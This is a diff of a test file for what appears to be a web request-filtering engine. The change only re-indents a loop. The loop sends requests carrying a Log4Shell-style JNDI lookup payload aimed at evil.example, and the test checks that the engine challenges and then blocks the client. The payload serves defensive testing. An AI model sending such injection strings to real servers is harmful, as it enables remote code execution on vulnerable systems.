@@ -190,18 +190,18 @@ test('browsers are challenged before they are banned: a page may have made its v
     ['192.0.2.8', []],
   ] as const)
     for (const n of [1, 2, 3]) {
-    const exchange = engine.open({
-      method: 'GET',
-      target: `/${n}?x=\${jndi:ldap://evil.example/a}`,
-      headers: ['Host', 'h', ...headers],
-      peer,
-      secure: false,
-      httpVersion: '1.1',
-      body: undefined,
-      native: undefined,
-    })
-    engine.settle(exchange, { status: 404, duration: 1, bytes: 0, aborted: false })
-  }
+      const exchange = engine.open({
+        method: 'GET',
+        target: `/${n}?x=\${jndi:ldap://evil.example/a}`,
+        headers: ['Host', 'h', ...headers],
+        peer,
+        secure: false,
+        httpVersion: '1.1',
+        body: undefined,
+        native: undefined,
+      })
+      engine.settle(exchange, { status: 404, duration: 1, bytes: 0, aborted: false })
+    }
   assert.deepEqual(measures, ['challenge', 'challenge', 'block'])
 })
 
